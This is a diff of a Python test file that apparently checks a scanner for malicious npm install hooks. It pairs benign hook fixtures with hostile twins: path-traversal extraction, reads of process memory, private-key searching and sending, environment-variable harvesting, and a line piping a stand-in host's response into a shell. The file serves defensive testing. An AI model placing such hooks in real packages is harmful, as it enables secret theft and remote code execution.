@@ -39,6 +39,49 @@ def probing(text: str) -> Files:
     return hooked("node scripts/a.js", {"scripts/a.js": f"{start}{own}spawnSync(process.execPath, ['-e', {text}]);\n"})
 
 
+UNPACKS = "createReadStream(tarball()).pipe(extract()).on('entry', ({ name }, stream) => {"
+
+
+def unpacking(test: str, then: str = "name") -> Files:
+    """Make a hook that unpacks into a folder of its own package, which another file names."""
+    place = "const path = require('path');\nmodule.exports = () => {\n  const all = { out: path.join(__dirname, '..', 'git') };\n  return all;\n};\n"
+    does = f"{UNPACKS} {test}\n  stream.pipe(fs.createWriteStream(join(config.out, {then})));\n}});\n"
+    start = "const { join } = require('path'), fs = require('fs'), config = require('./config')();\n"
+    return hooked("node scripts/a.js", {"scripts/a.js": start + does, "scripts/config.js": place})
+
+
+def libc(test: str) -> Files:
+    """Make a hook that tells musl from glibc."""
+    return hooked("node a.js", {"a.js": f"const fs = require('fs');\nif ({test}) console.log('musl');\n"})
+
+
+REPORT = (
+    "  const report = process.report.getReport();\n"
+    "  if (report.header && report.header.glibcVersionRuntime) return 'glibc';\n"
+)
+
+
+def searching(errors: str) -> Files:
+    """Make a hook with the forms of tokens, a file of which loads another from two folders up."""
+    forms = "exports.forms = { aws: 'AKIA[0-9A-Z]{16}' };\n"
+    loads = f"const fs = require('fs'), errors = {errors};\nconsole.log(typeof errors);\n"
+    start = "require('./lib/forms');\nrequire('./lib/impl/a');\n"
+    return hooked("node a.js", {"a.js": start, "lib/forms.js": forms, "lib/impl/a.js": loads, "errors.js": ""})
+
+
+def listing(test: str, beginning: str = "npm_config_") -> Files:
+    """Make a hook that goes through the environment, and downloads."""
+    goes = f"Object.keys(process.env).forEach(function (name) {{\n  {test}\n  all[name] = process.env[name];\n}});\n"
+    gets = "require('https').get('https://files.example.test/a.tgz', save);\n"
+    return hooked("node a.js", {"a.js": f"const all = {{}}, own = '{beginning}';\n{goes}{gets}"})
+
+
+KEYS = (
+    "exports.bare = (key) => key.replace('-----BEGIN PRIVATE KEY-----', '').replace('-----END PRIVATE KEY-----', '');\n"
+)
+SEARCHES = "exports.keep = (text) => text.includes('-----BEGIN PRIVATE KEY-----') && send(text);\n"
+SHOWS = "exports.shown = (bytes) => Buffer.from(bytes).toString('hex');\nexports.like = (list, n) => new list.constructor(n);\n"
+DECODES = SHOWS.replace("Buffer.from(bytes).toString('hex')", "Buffer.from(bytes, 'hex').toString()")
 MAKEFILE = "PREFIX ?= ../build\ninstall: tool\n\tmkdir -p $(PREFIX)\n\tinstall -m 755 tool $(PREFIX)/tool\ntool: a.c\n\t$(CC) -o tool a.c\n"
 
 
@@ -113,6 +156,14 @@ PATTERN = (
     rendered=rendering("new URL(name, out)"),
     unpacked=streaming("'tar', ['-x', '-C', 'data']"),
     pattern=hooked("node a.mjs", {"a.mjs": PATTERN + "console.log(clean('x'));\n"}),
+    unpacked_below=unpacking("if (!name || name.split('/').includes('..') || name.startsWith('../')) return;"),
+    unpacked=unpacking("if (name.includes('..')) throw new Error(name);"),
+    libc=libc("/ld-musl/.test(fs.readFileSync('/proc/self/maps', 'latin1'))"),
+    keys=hooked("node a.js", {"a.js": SENDS + KEYS, "allowed.js": ""}),
+    shown=hooked("node a.js", {"a.js": SHOWS}),
+    report=reporting("require('./allowed').libc();", f"exports.libc = () => {{\n{REPORT}}};\n"),
+    own_module=searching("require('../../errors')"),
+    settings=listing("if (name.indexOf(own) !== 0) return;"),
 )
 def test_an_honest_shape_is_not_blocked(seen: Seen) -> None:
     assert not seen.blocked
@@ -197,6 +248,23 @@ def test_a_digest_of_whose_machine_it_is_is_for_a_person_to_judge(seen: Seen) ->
         "'tar', ['-x']", "require('http').get('http://x.example.invalid', (r) => r.pipe(spawn('sh').stdin));\n"
     ),
     make_beside=made("../../left-pad"),
+    unpacked_higher=unpacking("if (name.includes('..')) throw new Error(name);", "'../../left-pad/' + name"),
+    unpacked_by_test=unpacking(
+        "const same = { includes(text) { this.up = text; } };\n  if (same.includes('..')) return;",
+        "same.up, same.up, name",
+    ),
+    memory=libc("/ld-musl/.test(fs.readFileSync('/proc/self/mem', 'latin1'))"),
+    other_process=libc("/heap/.test(fs.readFileSync(`/proc/${process.ppid}/maps`, 'latin1'))"),
+    searched=hooked("node a.js", {"a.js": SENDS + SEARCHES, "allowed.js": ""}),
+    decoded=hooked("node a.js", {"a.js": DECODES}),
+    whole_report=reporting(
+        "require('./allowed').libc();", f"exports.libc = () => {{\n{REPORT}  global.told = report;\n}};\n"
+    ),
+    other_module=searching("require('../../../errors')"),
+    project=searching("require('../../errors'), config = require('../../../package.json')"),
+    own_text=searching("fs.readFileSync('../../errors.js', 'utf8')"),
+    other_settings=listing("if (name.indexOf(own) !== 0) return;", "NPM_"),
+    all_settings=listing("if (name.indexOf(own) !== 0) all[name] = process.env[name];"),
     linked=made("../left-pad", before="ln -s ../../../other/native native && "),
 )
 def test_its_evil_twin_still_is(seen: Seen) -> None:
